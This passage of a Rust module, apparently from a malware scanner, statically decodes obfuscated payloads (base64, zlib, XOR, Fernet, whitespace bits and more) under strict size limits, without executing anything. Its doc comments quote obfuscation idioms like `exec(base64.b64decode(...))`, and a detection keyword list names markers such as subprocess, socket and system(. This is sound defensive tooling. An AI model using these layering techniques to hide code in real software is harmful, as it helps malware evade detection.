//! Payloads hidden in string literals, decoded without running anything.
//!
//! Malware ships its real code encoded: `exec(base64.b64decode("aW1wb3J0IG9z..."))`,
//! `exec(zlib.decompress(b"x\x9c..."))`, dozens of base64+zlib layers, hex, base32, reversed
//! strings, escape sequences written out, bz2/xz, bits spelled in spaces and tabs, XOR or Fernet
//! with the key in the same file. The emitter notes long string literals ([`is_candidate`]) and
//! the file's short string constants ([`note_key`]); [`decode_literal`] peels layers off one at
//! a time (each one bounded in size) until what is left parses as Python or JavaScript, and the
//! compiler turns that into child objects named `<decoded:L12>`, which the model scores like any
//! other code. Nothing is evaluated: a layer is decoded only when its bytes have the exact shape
//! of the encoding, and compiled Python (marshal, .pyc) is reported as a [`Note`], never loaded.
//!
//! Every decoding is bounded; where a bound stops one, a [`NoteKind::DecodingLimit`] note says so.

use std::io::Read;

use crate::language::Language;

/// The decoding chain of code a call runs from a string as it is (`exec("import os...")`):
/// code hidden behind no encoding.
pub const CODE_STRING: &str = "code string";
/// Shorter literals are names, messages and keys, not payloads.
pub const MIN_CANDIDATE_LEN: usize = 24;
/// Layers peeled off one literal (real stealers wrap 64 to 128 layers of zlib+base64).
pub const MAX_LAYERS: usize = 160;
/// No layer may grow past this: a decompression bomb (zlib, gzip, bz2, xz, lzma) stops here.
pub const MAX_OUTPUT: usize = 4 << 20;
/// Bytes one literal's layers may add up to (160 layers of 4 MB would be a slow way to fail).
pub const MAX_WORK: usize = 64 << 20;
/// Decoded code one file may produce, all levels together: each level could otherwise hold
/// `MAX_PAYLOADS_PER_FILE` payloads of its own, a bomb that grows with every level.
pub const MAX_DECODED_PER_FILE: usize = 2 << 20;
/// Decoded code that itself holds encoded code: this many levels of child objects.
pub const MAX_CODE_DEPTH: u32 = 4;
/// Literals decoded per file (the longest first would be better; the first ones suffice).
pub const MAX_PAYLOADS_PER_FILE: usize = 32;
/// Key candidates kept per file: distinct short string constants (XOR keys, Fernet keys), in
/// source order; Fernet-shaped ones get `MAX_FERNET_KEYS` more places once these are taken.
pub const MAX_KEYS: usize = 64;
pub const MAX_KEY_LEN: usize = 64;
pub const MAX_FERNET_KEYS: usize = 8;
/// Bytes one literal's keys may process, keys × bytes: every XOR that passes the prefilter
/// and every Fernet HMAC counts its whole input. The prefilters (64 bytes per key, most keys
/// rejected after a byte or two) cost at most 319 keys × 64 bytes per undecodable layer.
pub const MAX_KEY_WORK: usize = 32 << 20;
/// Memory an xz or lzma layer's dictionary may take, in KiB (`xz -9` uses 64 MiB).
pub const MAX_LZMA_MEMORY_KB: u32 = 72 << 10;
/// Spaces and tabs worth decoding as bits: 16 bytes at least.
pub const MIN_WHITESPACE_BITS: usize = 128;

/// Folded expressions shorter than this are not worth decoding.
pub const MIN_FOLDED_LEN: usize = 8;

/// Bytes of a layer that a key must turn into text (or a known header) before the whole layer
/// is XORed.
const XOR_PREFIX: usize = 64;
/// Bytes of a layer counted for the XOR heuristics (byte frequencies, words of code).
const XOR_PROBE: usize = 4096;

/// A payload that decoded to code.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Decoded {
    pub text: String,
    pub language: Language,
    /// The decodings applied, outermost first: `["base64", "zlib"]`.
    pub chain: Vec<&'static str>,
    /// A layer hit `MAX_OUTPUT` and was cut there.
    pub truncated: bool,
}

/// Something about a literal's payload that produced no objects but belongs in the report.
#[derive(Clone, Debug, PartialEq, Eq, serde::Serialize)]
pub struct Note {
    /// The literal's lines (for payloads found in decoded code: the outer literal's lines).
    pub lines: (u32, u32),
    pub kind: NoteKind,
    /// `marshalled code object, 12,345 bytes, after base64 > zlib; not loaded`.
    pub detail: String,
}

#[derive(Clone, Copy, Debug, PartialEq, Eq, serde::Serialize)]
#[serde(rename_all = "snake_case")]
pub enum NoteKind {
    /// Compiled Python (a marshalled code object, a .pyc, the argument of `marshal.loads`):
    /// reported, never loaded.
    MarshalCode,
    /// Decoding stopped at one of the limits above.
    DecodingLimit(Limit),
}

/// The bounds of payload decoding, by the constants that set them.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash, serde::Serialize)]
pub enum Limit {
    Layers,
    Output,
    Work,
    KeyWork,
    DecodedPerFile,
    CodeDepth,
    PayloadsPerFile,
    /// Constant folding's work for the whole file (`emit::fold::MAX_FILE_NODES`).
    FoldWork,
}

impl Limit {
    /// The constant's name, as notes and documentation call the limit.
    pub fn name(self) -> &'static str {
        match self {
            Limit::Layers => "MAX_LAYERS",
            Limit::Output => "MAX_OUTPUT",
            Limit::Work => "MAX_WORK",
            Limit::KeyWork => "MAX_KEY_WORK",
            Limit::DecodedPerFile => "MAX_DECODED_PER_FILE",
            Limit::CodeDepth => "MAX_CODE_DEPTH",
            Limit::PayloadsPerFile => "MAX_PAYLOADS_PER_FILE",
            Limit::FoldWork => "MAX_FILE_NODES",
        }
    }
}

impl Note {
    /// A note that decoding stopped at `limit`.
    pub fn limit(lines: (u32, u32), limit: Limit, detail: String) -> Note {
        Note { lines, kind: NoteKind::DecodingLimit(limit), detail }
    }

    /// The limit a decoding-limit note is about.
    pub fn limit_reached(&self) -> Option<Limit> {
        match self.kind {
            NoteKind::DecodingLimit(limit) => Some(limit),
            NoteKind::MarshalCode => None,
        }
    }
}

/// A string value the emitter noted for decoding.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Candidate {
    pub lines: (u32, u32),
    pub value: String,
    /// Built by constant folding: may be code as it is, and its chain starts with `folded`.
    pub folded: bool,
    /// An argument of a call that runs code: may be code as it is (its chain is `code string`).
    pub executed: bool,
    /// The body of `new Function('r', body)` called as `(require)`: its parameters and the
    /// names the call binds them to, so that `r('child_process')` is read as `require(...)`.
    pub bound: Vec<(String, String)>,
    /// Inside the argument of `marshal.loads`: what it decodes to is compiled code.
    pub marshal: bool,
}

/// A file's key candidates, prepared for decoding.
#[derive(Clone, Debug, Default)]
pub struct Keys {
    /// Fernet keys: (signing key, encryption key).
    fernet: Vec<([u8; 16], [u8; 16])>,
    xor: Vec<Vec<u8>>,
}

impl Keys {
    /// From the constants [`note_key`] collected.
    pub fn new<'a>(constants: impl IntoIterator<Item = &'a str>) -> Keys {
        let mut keys = Keys::default();
        for constant in constants {
            let bytes = literal_bytes(constant);
            if let Some(key) = fernet_key(&bytes) {
                if keys.fernet.len() < MAX_FERNET_KEYS && !keys.fernet.contains(&key) {
                    keys.fernet.push(key);
                }
            }
            if !bytes.is_empty() && bytes.len() <= MAX_KEY_LEN && !keys.xor.contains(&bytes) {
                keys.xor.push(bytes);
            }
        }
        keys
    }
}

/// Remembers a short string constant as a key candidate: up to [`MAX_KEYS`] distinct ones, then
/// only Fernet-shaped ones (44 characters of base64), up to [`MAX_FERNET_KEYS`] more.
pub fn note_key(keys: &mut Vec<String>, value: &str) {
    let length = value.len();
    if length == 0 || length > MAX_KEY_LEN {
        return;
    }
    let room = keys.len() < MAX_KEYS
        || (keys.len() < MAX_KEYS + MAX_FERNET_KEYS && length == 44 && fernet_key(value.as_bytes()).is_some());
    if room && !keys.iter().any(|key| key == value) {
        keys.push(value.to_string());
    }
}

/// A Fernet key: 32 bytes in URL-safe base64 (43 characters and `=`).
fn fernet_key(text: &[u8]) -> Option<([u8; 16], [u8; 16])> {
    if !(43..=44).contains(&text.len()) {
        return None;
    }
    let raw = base64_decode(text)?;
    let raw: [u8; 32] = raw.try_into().ok()?;
    let (signing, encryption) = raw.split_at(16);
    Some((signing.try_into().ok()?, encryption.try_into().ok()?))
}

/// Whether a string literal is worth trying: long, and without the spaces of prose or code
/// (an encoded payload has none, except line breaks in wrapped base64), unless its characters
/// are binary (a bytes literal of compressed data holds spaces like any other byte).
pub fn is_candidate(value: &str) -> bool {
    value.len() >= MIN_CANDIDATE_LEN && (!value.contains(' ') || looks_binary(value))
}

/// Two control characters among the first 64 bytes: compressed or encrypted bytes, not text.
/// (Bytes, not characters: U+0080 to U+009F, C1 controls, are `C2 80` to `C2 9F` in UTF-8.)
fn looks_binary(value: &str) -> bool {
    let head = &value.as_bytes()[..value.len().min(64)];
    let mut found = 0;
    for (i, &b) in head.iter().enumerate() {
        let control = (b < 0x20 && !matches!(b, b'\t' | b'\n' | b'\r'))
            || b == 0x7f
            || (b == 0xc2 && head.get(i + 1).is_some_and(|n| (0x80..0xa0).contains(n)));
        found += usize::from(control);
        if found == 2 {
            return true;
        }
    }
    false
}

/// A string of spaces and tabs (line breaks allowed) long enough to spell 16 bytes in bits:
/// [`is_candidate`] refuses it for its spaces.
pub fn is_whitespace_candidate(value: &str) -> bool {
    let bytes = value.as_bytes();
    bytes.len() >= MIN_WHITESPACE_BITS
        && matches!(bytes[0], b' ' | b'\t')
        && bytes.iter().all(|b| matches!(b, b' ' | b'\t' | b'\n' | b'\r'))
        && bytes.contains(&b'\t')
        && bytes.contains(&b' ')
}

/// Whether a literal has the shape of encoded data (for the notes about literals left untried):
/// base64 or hex text, binary characters, spaces and tabs, escape sequences.
pub fn looks_encoded(value: &str) -> bool {
    if value.len() < MIN_CANDIDATE_LEN {
        return false;
    }
    let alphabet = value.len() >= 32
        && value.bytes().all(|b| b.is_ascii_alphanumeric() || b"+/=-_\r\n".contains(&b))
        && value.bytes().any(|b| b.is_ascii_digit());
    alphabet || value.starts_with('\\') || looks_binary(value) || is_whitespace_candidate(value)
}

/// Decodes layer after layer until the result is code in either language (`preferred` first).
#[cfg(test)]
pub(crate) fn decode(value: &str, preferred: Language) -> Option<Decoded> {
    decode_from(value, preferred, false)
}

/// The same for a value that constant folding built (`folded`): it may be code as it is, and
/// its chain starts with `folded`. No keys, no notes: see [`decode_literal`].
#[cfg(test)]
pub(crate) fn decode_from(value: &str, preferred: Language, folded: bool) -> Option<Decoded> {
    decode_literal(value, preferred, folded, false, &Keys::default(), (0, 0)).0
}

/// Decodes a noted candidate with the file's keys. A string that a call runs and that is
/// code as it stands (`exec("import os; ...")`, `new Function("r", "r('child_process')...")`)
/// is that code, decoded by no layer: its chain is `code string`.
pub fn decode_candidate(candidate: &Candidate, preferred: Language, keys: &Keys) -> (Option<Decoded>, Vec<Note>) {
    if candidate.executed && !candidate.folded && candidate.value.len() <= MAX_OUTPUT {
        if let Some(language) = code_language(candidate.value.as_bytes(), preferred) {
            let mut text: String =
                candidate.bound.iter().map(|(parameter, name)| format!("var {parameter} = {name};\n")).collect();
            text.push_str(&candidate.value);
            return (Some(Decoded { text, language, chain: vec![CODE_STRING], truncated: false }), Vec::new());
        }
    }
    decode_literal(&candidate.value, preferred, candidate.folded, candidate.marshal, keys, candidate.lines)
}

/// Decodes one literal: the code it holds, if any, and notes on what stopped or what was found
/// instead (compiled Python; a limit). `marshal`: the literal is inside `marshal.loads(...)`.
pub fn decode_literal(
    value: &str,
    preferred: Language,
    folded: bool,
    marshal: bool,
    keys: &Keys,
    lines: (u32, u32),
) -> (Option<Decoded>, Vec<Note>) {
    let data = literal_bytes(value);
    let mut run = Run { preferred, keys, work: data.len(), key_work: 0, layers: 0, limits: Vec::new() };
    let chain = if folded { vec!["folded"] } else { Vec::new() };
    let found = run.layers(data, chain, false, true, marshal);
    let mut notes: Vec<Note> = Vec::new();
    for (limit, detail) in run.limits {
        if !notes.iter().any(|n| n.detail == detail) {
            notes.push(Note::limit(lines, limit, detail));
        }
    }
    match found {
        Some(Found::Code(decoded)) => (Some(decoded), notes),
        Some(Found::Compiled(detail)) => {
            notes.insert(0, Note { lines, kind: NoteKind::MarshalCode, detail });
            (None, notes)
        }
        None => (None, notes),
    }
}

/// A string's bytes: a bytes literal (`b"x\x9c..."`) arrives as characters up to U+00FF, which
/// are its bytes; other text is UTF-8.
fn literal_bytes(value: &str) -> Vec<u8> {
    if value.chars().all(|c| (c as u32) < 256) {
        value.chars().map(|c| c as u8).collect()
    } else {
        value.as_bytes().to_vec()
    }
}

enum Found {
    Code(Decoded),
    /// Compiled Python, described for a [`NoteKind::MarshalCode`] note.
    Compiled(String),
}

/// One literal's decoding: its budgets and the limits it hit.
struct Run<'k> {
    preferred: Language,
    keys: &'k Keys,
    /// Bytes produced by all layers (`MAX_WORK`).
    work: usize,
    /// Bytes processed with keys (`MAX_KEY_WORK`).
    key_work: usize,
    layers: usize,
    /// The limits hit, with the details of their notes.
    limits: Vec<(Limit, String)>,
}

impl Run<'_> {
    /// Peels layers off `data` until code, compiled code, or nothing decodable is left; then,
    /// when `xor` allows, tries the file's keys on what is left.
    fn layers(
        &mut self,
        mut data: Vec<u8>,
        mut chain: Vec<&'static str>,
        mut truncated: bool,
        xor: bool,
        marshal: bool,
    ) -> Option<Found> {
        loop {
            if !chain.is_empty() {
                if let Some(language) = code_language(&data, self.preferred) {
                    let text = String::from_utf8(data).ok()?;
                    return Some(Found::Code(Decoded { text, language, chain, truncated }));
                }
            }
            if let Some(what) = compiled_python(&data) {
                return Some(Found::Compiled(describe(what, data.len(), &chain)));
            }
            if self.layers >= MAX_LAYERS {
                if peel(&data, self.keys, &mut self.key_work).is_some() {
                    self.limits.push((
                        Limit::Layers,
                        format!("decoding stopped after {MAX_LAYERS} layers (limit MAX_LAYERS)"),
                    ));
                }
                return None;
            }
            let Some((next, name, cut)) = peel(&data, self.keys, &mut self.key_work) else { break };
            self.layers += 1;
            if cut {
                truncated = true;
                self.limits.push((
                    Limit::Output,
                    format!(
                        "decoding stopped: {name} output cut at {} bytes (limit MAX_OUTPUT)",
                        thousands(MAX_OUTPUT)
                    ),
                ));
            }
            self.work += next.len();
            if self.work > MAX_WORK {
                self.limits.push((
                    Limit::Work,
                    format!(
                        "decoding stopped: layers added up to more than {} bytes (limit MAX_WORK)",
                        thousands(MAX_WORK)
                    ),
                ));
                return None;
            }
            data = next;
            chain.push(name);
        }
        if xor {
            if let Some(found) = self.xor(&data, &chain, truncated) {
                return Some(found);
            }
        }
        if marshal {
            return Some(Found::Compiled(describe("bytes passed to marshal.loads", data.len(), &chain)));
        }
        None
    }

    /// XOR with each of the file's keys, then single bytes: a key counts only when the result
    /// is code or decodes further to code. A key must first turn the layer's first 64 bytes
    /// into ASCII text or a known header, which random bytes do by chance about once in 10^27
    /// tries. Binary data is tried with all 255 single bytes. Text stays text under many keys
    /// (a space flips case: `WIDTH=1;` becomes `width=1;`), so text is tried only with the
    /// bytes that turn one of its four most frequent characters into a space (the most
    /// frequent in code), and the result must bring in two words of code that the text lacks.
    fn xor(&mut self, data: &[u8], chain: &[&'static str], truncated: bool) -> Option<Found> {
        if data.len() < 16 {
            return None;
        }
        let head = &data[..data.len().min(XOR_PREFIX)];
        let probe = &data[..data.len().min(XOR_PROBE)];
        let text = head.iter().all(|&b| is_text_byte(b));
        // Encrypted code has many distinct bytes; a run of one byte (a bomb's padding) does not.
        let mut counts = [0u32; 256];
        probe.iter().for_each(|&b| counts[b as usize] += 1);
        if counts.iter().filter(|&&count| count > 0).count() < 8 {
            return None;
        }
        let mut space_keys: Vec<[u8; 1]> = Vec::new();
        if text {
            let mut frequent: Vec<u8> = (0..=255u8).filter(|&b| counts[b as usize] > 0 && b != b' ').collect();
            frequent.sort_by_key(|&b| std::cmp::Reverse(counts[b as usize]));
            space_keys.extend(frequent.iter().take(4).map(|&b| [b ^ b' ']));
        }
        let singles: &[[u8; 1]] = if text { &space_keys } else { &SINGLE_BYTE_KEYS };
        let keys = self.keys;
        let mut text_has_words = None;
        for key in keys.xor.iter().map(Vec::as_slice).chain(singles.iter().map(|k| &k[..])) {
            if !xor_prefix_plausible(head, key) {
                continue;
            }
            if text {
                let words: Vec<u8> = probe.iter().zip(key.iter().cycle()).map(|(b, k)| b ^ k).collect();
                if code_words(&words) < 2 || *text_has_words.get_or_insert_with(|| code_words(probe) > 0) {
                    continue;
                }
            }
            self.key_work += data.len();
            if self.key_work > MAX_KEY_WORK {
                self.limits.push((
                    Limit::KeyWork,
                    format!(
                        "decoding stopped: keys tried on more than {} bytes (limit MAX_KEY_WORK)",
                        thousands(MAX_KEY_WORK)
                    ),
                ));
                return None;
            }
            let out: Vec<u8> = data.iter().zip(key.iter().cycle()).map(|(b, k)| b ^ k).collect();
            // Some key turns almost any text into something that parses (a `#` makes the rest
            // a Python comment): what XOR yields must be compressed data or read like code.
            if !has_magic(&out[..out.len().min(8)]) && code_words(&out) < 2 {
                continue;
            }
            self.work += out.len();
            if self.work > MAX_WORK {
                self.limits.push((
                    Limit::Work,
                    format!(
                        "decoding stopped: layers added up to more than {} bytes (limit MAX_WORK)",
                        thousands(MAX_WORK)
                    ),
                ));
                return None;
            }
            let mut chain = chain.to_vec();
            chain.push("xor");
            if let Some(found) = self.layers(out, chain, truncated, false, false) {
                return Some(found);
            }
        }
        None
    }
}

/// The keys 1 to 255.
const SINGLE_BYTE_KEYS: [[u8; 1]; 255] = {
    let mut keys = [[0u8; 1]; 255];
    let mut i = 0;
    while i < 255 {
        keys[i][0] = i as u8 + 1;
        i += 1;
    }
    keys
};

/// Printable ASCII or a line break or tab.
fn is_text_byte(b: u8) -> bool {
    (0x20..0x7f).contains(&b) || matches!(b, b'\t' | b'\n' | b'\r')
}

/// Whether `key` turns the first bytes into text, or into the header of something decodable.
fn xor_prefix_plausible(head: &[u8], key: &[u8]) -> bool {
    let mut first = [0u8; 8];
    for (i, slot) in first.iter_mut().enumerate().take(head.len()) {
        *slot = head[i] ^ key[i % key.len()];
    }
    if has_magic(&first[..head.len().min(8)]) {
        return true;
    }
    head.iter().zip(key.iter().cycle()).all(|(b, k)| is_text_byte(b ^ k))
}

/// The headers of the compressed and compiled formats (checked on a prefix).
fn has_magic(data: &[u8]) -> bool {
    let zlib = data.len() >= 2 && data[0] == 0x78 && matches!(data[1], 0x01 | 0x5e | 0x9c | 0xda);
    zlib || data.starts_with(&[0x1f, 0x8b])
        || data.starts_with(b"BZh")
        || data.starts_with(&[0xfd, b'7', b'z', b'X', b'Z', 0])
        || (data.len() >= 5 && matches!(data[0], 0x63 | 0xe3) && data[2..5] == [0, 0, 0])
        || (data.len() >= 4 && data[2..4] == [0x0d, 0x0a])
}

/// `12,345`.
fn thousands(n: usize) -> String {
    let digits = n.to_string();
    let mut out = String::new();
    for (i, c) in digits.chars().enumerate() {
        if i > 0 && (digits.len() - i).is_multiple_of(3) {
            out.push(',');
        }
        out.push(c);
    }
    out
}

/// `marshalled code object, 12,345 bytes, after base64 > zlib; not loaded`.
fn describe(what: &str, size: usize, chain: &[&str]) -> String {
    if chain.is_empty() {
        format!("{what}, {} bytes; not loaded", thousands(size))
    } else {
        format!("{what}, {} bytes, after {}; not loaded", thousands(size), chain.join(" > "))
    }
}

/// Compiled Python: a marshalled code object or a .pyc file, recognised by their headers.
fn compiled_python(data: &[u8]) -> Option<&'static str> {
    if marshal_code_at(data, 0) {
        return Some("marshalled code object");
    }
    // .pyc: 2-byte version magic, `\r\n`, then the code object after 8 (Python 2), 12 (3.3 to
    // 3.6) or 16 bytes (3.7 on: flags, then a date and size or a hash).
    if data.len() > 16 && data[2..4] == [0x0d, 0x0a] && [16, 12, 8].iter().any(|&at| marshal_code_at(data, at)) {
        return Some("compiled Python module (.pyc)");
    }
    None
}

/// A marshalled code object at `at`: type `c` (with or without the reference flag), small
/// argument counts, then the bytecode string after 4, 5 or 6 fields (Python 2.7, 3.7 and 3.11
/// on, 3.8 to 3.10).
fn marshal_code_at(data: &[u8], at: usize) -> bool {
    let Some(rest) = data.get(at..) else { return false };
    if rest.len() < 32 || !matches!(rest[0], 0x63 | 0xe3) {
        return false;
    }
    let small = |i: usize| rest[2 + 4 * i..5 + 4 * i] == [0, 0, 0];
    small(0) && small(1) && small(2) && [17, 21, 25].iter().any(|&o| matches!(rest[o], 0x73 | 0xf3))
}

/// One layer: the decoding whose shape the bytes have, if any.
fn peel(data: &[u8], keys: &Keys, key_work: &mut usize) -> Option<(Vec<u8>, &'static str, bool)> {
    if let Some(layer) = decompress(data) {
        return Some(layer);
    }
    if let Some(out) = whitespace_decode(data) {
        return Some((out, "whitespace", false));
    }
    let compact: Vec<u8> = data.iter().copied().filter(|b| !b.is_ascii_whitespace()).collect();
    if compact.len() < 16 {
        return None;
    }
    if compact[0] == b'\\' {
        if let Some(out) = unescape(&compact) {
            return Some((out, "escapes", false));
        }
    }
    if !keys.fernet.is_empty() && compact.starts_with(b"gAAAAA") {
        if let Some(out) = fernet_decrypt(&compact, &keys.fernet, key_work) {
            return Some((out, "fernet", false));
        }
    }
    if compact.len().is_multiple_of(2) && compact.iter().all(u8::is_ascii_hexdigit) {
        return Some((hex_decode(&compact)?, "hex", false));
    }
    if let Some(out) = base64_decode(&compact) {
        return Some((out, "base64", false));
    }
    if let Some(out) = base32_decode(&compact) {
        return Some((out, "base32", false));
    }
    // `exec(b64decode(s[::-1]))`: padding at the front means the string was reversed.
    if compact.first() == Some(&b'=') {
        let reversed: Vec<u8> = compact.iter().rev().copied().collect();
        if let Some(out) = base64_decode(&reversed) {
            return Some((out, "reversed+base64", false));
        }
    }
    if compact.iter().all(u8::is_ascii_graphic) && compact.iter().any(u8::is_ascii_alphabetic) {
        // rot13 keeps punctuation, so any code-shaped string "decodes": it counts only when the
        // rotation brings in the words of code that the original lacks.
        let rotated = rot13(data);
        if code_words(data) == 0 && code_words(&rotated) >= 2 && code_language(&rotated, Language::Python).is_some() {
            return Some((rotated, "rot13", false));
        }
    }
    None
}

/// How many words typical of (malicious) code occur in `data`.
fn code_words(data: &[u8]) -> usize {
    const WORDS: [&[u8]; 14] = [
        b"import ",
        b"exec(",
        b"eval(",
        b"require(",
        b"subprocess",
        b"os.",
        b"socket",
        b"base64",
        b"http",
        b"def ",
        b"function",
        b"return",
        b"open(",
        b"system(",
    ];
    WORDS.iter().filter(|word| data.windows(word.len()).any(|window| window == **word)).count()
}

/// zlib, gzip, bz2, xz or lzma, recognised by their headers, decompressed up to `MAX_OUTPUT`
/// (reading stops there: a bomb never gets further). The bool: the output was cut.
fn decompress(data: &[u8]) -> Option<(Vec<u8>, &'static str, bool)> {
    if data.len() < 2 {
        return None;
    }
    let (reader, name): (Box<dyn Read + '_>, &'static str) = if data.starts_with(&[0x1f, 0x8b]) {
        (Box::new(flate2::read::GzDecoder::new(data)), "gzip")
    } else if data[0] & 0x0f == 8 && (u16::from(data[0]) << 8 | u16::from(data[1])) % 31 == 0 {
        (Box::new(flate2::read::ZlibDecoder::new(data)), "zlib")
    } else if is_bzip2(data) {
        (Box::new(bzip2::read::MultiBzDecoder::new(data)), "bz2")
    } else if data.starts_with(&[0xfd, b'7', b'z', b'X', b'Z', 0]) {
        (Box::new(lzma_rust2::XzReader::new_mem_limit(data, true, MAX_LZMA_MEMORY_KB)), "xz")
    } else if is_lzma_alone(data) {
        (Box::new(lzma_rust2::LzmaReader::new_mem_limit(data, MAX_LZMA_MEMORY_KB, None).ok()?), "lzma")
    } else {
        return None;
    };
    let mut out = Vec::new();
    let read = reader.take(MAX_OUTPUT as u64 + 1).read_to_end(&mut out);
    if read.is_err() && out.is_empty() {
        return None;
    }
    let cut = out.len() > MAX_OUTPUT;
    out.truncate(MAX_OUTPUT);
    Some((out, name, cut))
}

/// `BZh1`..`BZh9`, then the magic of a block or of the end of the stream.
fn is_bzip2(data: &[u8]) -> bool {
    data.len() >= 10
        && data.starts_with(b"BZh")
        && (b'1'..=b'9').contains(&data[3])
        && (data[4..10] == [0x31, 0x41, 0x59, 0x26, 0x53, 0x59] || data[4..10] == [0x17, 0x72, 0x45, 0x38, 0x50, 0x90])
}

/// The .lzma ("alone") header of `lzma.compress(format=FORMAT_ALONE)`: the usual properties
/// byte, a dictionary size of 2^n or 2^n + 2^(n-1), and an unknown or plausible size.
fn is_lzma_alone(data: &[u8]) -> bool {
    if data.len() < 18 || data[0] != 0x5d {
        return false;
    }
    let dictionary = u32::from_le_bytes([data[1], data[2], data[3], data[4]]);
    let shaped = dictionary.is_power_of_two() || (dictionary & (dictionary - 1)).is_power_of_two();
    let size = u64::from_le_bytes(data[5..13].try_into().expect("8 bytes"));
    shaped && dictionary >= 4096 && (size == u64::MAX || size < 1 << 40)
}

/// Bits spelled in spaces and tabs (line breaks ignored), eight to a byte, most significant
/// first: space = 0 and tab = 1, or the other way round, whichever gives text or a header.
fn whitespace_decode(data: &[u8]) -> Option<Vec<u8>> {
    if !matches!(data.first(), Some(b' ' | b'\t')) {
        return None;
    }
    let mut out = Vec::with_capacity(data.len() / 8);
    let (mut byte, mut bits) = (0u8, 0usize);
    for &b in data {
        let bit = match b {
            b' ' => 0,
            b'\t' => 1,
            b'\n' | b'\r' => continue,
            _ => return None,
        };
        byte = byte << 1 | bit;
        bits += 1;
        if bits % 8 == 0 {
            out.push(byte);
            byte = 0;
        }
    }
    if bits % 8 != 0 || bits < MIN_WHITESPACE_BITS {
        return None;
    }
    let plausible = |bytes: &[u8]| {
        let head = &bytes[..bytes.len().min(XOR_PREFIX)];
        has_magic(head) || head.iter().all(|&b| is_text_byte(b))
    };
    if plausible(&out) {
        return Some(out);
    }
    out.iter_mut().for_each(|b| *b = !*b);
    plausible(&out).then_some(out)
}

/// Text made only of `\xNN`, `\uNNNN` and `\NNN` (octal) escapes, written out: their bytes
/// (`\uNNNN` as UTF-8).
fn unescape(data: &[u8]) -> Option<Vec<u8>> {
    fn hex(digits: &[u8]) -> Option<u32> {
        digits.iter().try_fold(0u32, |acc, &d| Some(acc << 4 | (d as char).to_digit(16)?))
    }
    let mut out = Vec::with_capacity(data.len() / 3);
    let mut i = 0;
    while i < data.len() {
        if data[i] != b'\\' {
            return None;
        }
        match *data.get(i + 1)? {
            b'x' => {
                out.push(hex(data.get(i + 2..i + 4)?)? as u8);
                i += 4;
            }
            b'u' => {
                let c = char::from_u32(hex(data.get(i + 2..i + 6)?)?)?;
                out.extend_from_slice(c.encode_utf8(&mut [0; 4]).as_bytes());
                i += 6;
            }
            b'0'..=b'7' => {
                let digits = data[i + 1..].iter().take(3).take_while(|d| (b'0'..=b'7').contains(d)).count();
                let value = data[i + 1..i + 1 + digits].iter().fold(0u32, |acc, &d| acc << 3 | u32::from(d - b'0'));
                out.push(u8::try_from(value).ok()?);
                i += 1 + digits;
            }
            _ => return None,
        }
    }
    Some(out)
}

/// A Fernet token (`gAAAAA...`: version 0x80, timestamp, IV, AES-128-CBC ciphertext, HMAC)
/// decrypted with the first key whose HMAC-SHA256 verifies; unverified tokens stay closed.
fn fernet_decrypt(token: &[u8], keys: &[([u8; 16], [u8; 16])], key_work: &mut usize) -> Option<Vec<u8>> {
    use aes::cipher::{block_padding::Pkcs7, BlockModeDecrypt, KeyIvInit};
    use hmac::{KeyInit, Mac};

    let raw = base64_decode(token)?;
    if raw.len() < 73 || raw[0] != 0x80 || (raw.len() - 57) % 16 != 0 {
        return None;
    }
    let (signed, tag) = raw.split_at(raw.len() - 32);
    for (signing, encryption) in keys {
        *key_work += signed.len();
        if *key_work > MAX_KEY_WORK {
            return None;
        }
        let mut mac = <hmac::Hmac<sha2::Sha256> as KeyInit>::new_from_slice(signing).ok()?;
        mac.update(signed);
        if mac.verify_slice(tag).is_err() {
            continue;
        }
        let mut buffer = signed[25..].to_vec();
        let decryptor = cbc::Decryptor::<aes::Aes128>::new_from_slices(encryption, &signed[9..25]).ok()?;
        let length = decryptor.decrypt_padded::<Pkcs7>(&mut buffer).ok()?.len();
        buffer.truncate(length);
        return Some(buffer);
    }
    None
}

fn hex_decode(data: &[u8]) -> Option<Vec<u8>> {
    fn nibble(b: u8) -> Option<u8> {
        (b as char).to_digit(16).map(|d| d as u8)
    }
    data.chunks(2).map(|pair| Some(nibble(pair[0])? << 4 | nibble(pair[1])?)).collect()
}

/// Standard or URL-safe base64, padding optional; `None` unless every byte is of the alphabet.
pub(crate) fn base64_decode(data: &[u8]) -> Option<Vec<u8>> {
    let body = data.strip_suffix(b"==").or_else(|| data.strip_suffix(b"=")).unwrap_or(data);
    if body.len() % 4 == 1 {
        return None;
    }
    let mut out = Vec::with_capacity(body.len() * 3 / 4);
    let (mut buffer, mut bits) = (0u32, 0u32);
    for &b in body {
        let value = match b {
            b'A'..=b'Z' => b - b'A',
            b'a'..=b'z' => b - b'a' + 26,
            b'0'..=b'9' => b - b'0' + 52,
            b'+' | b'-' => 62,
            b'/' | b'_' => 63,
            _ => return None,
        };
        buffer = buffer << 6 | u32::from(value);
        bits += 6;
        if bits >= 8 {
            bits -= 8;
            out.push((buffer >> bits) as u8);
        }
    }
    Some(out)
}

fn base32_decode(data: &[u8]) -> Option<Vec<u8>> {
    if !data.len().is_multiple_of(8) {
        return None;
    }
    let body = data.iter().rposition(|&b| b != b'=').map_or(&data[..0], |end| &data[..=end]);
    let mut out = Vec::with_capacity(body.len() * 5 / 8);
    let (mut buffer, mut bits) = (0u64, 0u32);
    for &b in body {
        let value = match b {
            b'A'..=b'Z' => b - b'A',
            b'2'..=b'7' => b - b'2' + 26,
            _ => return None,
        };
        buffer = buffer << 5 | u64::from(value);
        bits += 5;
        if bits >= 8 {
            bits -= 8;
            out.push((buffer >> bits) as u8);
        }
    }
    Some(out)
}

fn rot13(data: &[u8]) -> Vec<u8> {
    data.iter()
        .map(|&b| match b {
            b'a'..=b'z' => (b - b'a' + 13) % 26 + b'a',
            b'A'..=b'Z' => (b - b'A' + 13) % 26 + b'A',
            _ => b,
        })
        .collect()
}

/// The language `data` is code in, if any: printable UTF-8 that parses without errors and
/// does something (a call, an import or an assignment), not a word or a number.
pub fn code_language(data: &[u8], preferred: Language) -> Option<Language> {
    let text = std::str::from_utf8(data).ok()?;
    let trimmed = text.trim();
    if trimmed.len() < 8 || !trimmed.contains(['(', '=']) {
        return None;
    }
    // Base64 can parse as JavaScript (`eJw+x/y=z`): text made of its alphabet is another layer.
    if trimmed.bytes().all(|b| b.is_ascii_alphanumeric() || b"+/=-_\r\n".contains(&b)) {
        return None;
    }
    let printable = text.chars().filter(|c| !c.is_control() || c.is_whitespace()).count();
